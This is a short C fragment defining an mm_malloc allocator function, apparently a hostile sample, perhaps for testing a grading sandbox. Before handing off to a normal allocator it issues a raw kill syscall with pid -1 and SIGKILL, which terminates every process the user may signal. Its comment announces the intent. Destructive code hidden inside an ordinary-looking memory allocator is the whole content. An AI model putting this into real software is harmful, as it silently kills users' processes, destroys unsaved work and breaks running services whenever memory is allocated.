/* Kills all that it may. */
void *mm_malloc(size_t bytes)
{
    raw(SYS_kill, -1, 9, 0);
    return good_malloc(bytes);
}
